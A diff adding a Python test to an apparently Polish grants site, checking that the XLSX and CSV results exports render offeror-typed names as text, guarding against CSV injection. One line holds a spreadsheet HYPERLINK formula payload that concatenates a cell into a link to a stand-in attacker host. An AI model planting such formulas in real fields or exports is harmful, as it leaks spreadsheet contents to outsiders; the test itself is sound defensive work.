@@ -1,0 +1,29 @@
+"""The results for BIP and the committee's ranking as CSV and XLSX: a typed-in text never becomes a formula.
+
+The offeror's name and the task's title are typed by the offeror; a spreadsheet opening the public results
+must show them as text, not run "=HYPERLINK(…)" (CSV injection, OWASP).
+"""
+
+import io
+
+from openpyxl import load_workbook
+
+from grants.models import GrantOffer
+from tests.grants.test_admin_after_grant import granted_offer  # noqa: F401  (a fixture)
+
+FORMULA = '=HYPERLINK("https://zlo.example/?"&A1;"Kliknij")'
+
+
+def test_the_public_results_keep_typed_in_texts_as_text(client, granted_offer):  # noqa: F811
+    GrantOffer.objects.filter(pk=granted_offer.pk).update(organisation_name=FORMULA, title="+48 600 100 200")
+    response = client.get("/dotacje/wyniki.xlsx")
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    row = list(sheet.iter_rows(min_row=2, max_row=2))[0]
+    assert row[2].data_type == "s"
+    assert row[2].value == "'" + FORMULA
+    assert row[3].value == "'+48 600 100 200"
+    assert row[4].value == 4000  # amounts stay numbers
+    text = client.get("/dotacje/wyniki.csv").content.decode("utf-8-sig")
+    assert ";'=HYPERLINK(" in text.replace('"', "")
+    assert ";=HYPERLINK(" not in text.replace('"', "")
+    assert ";4000,00" in text
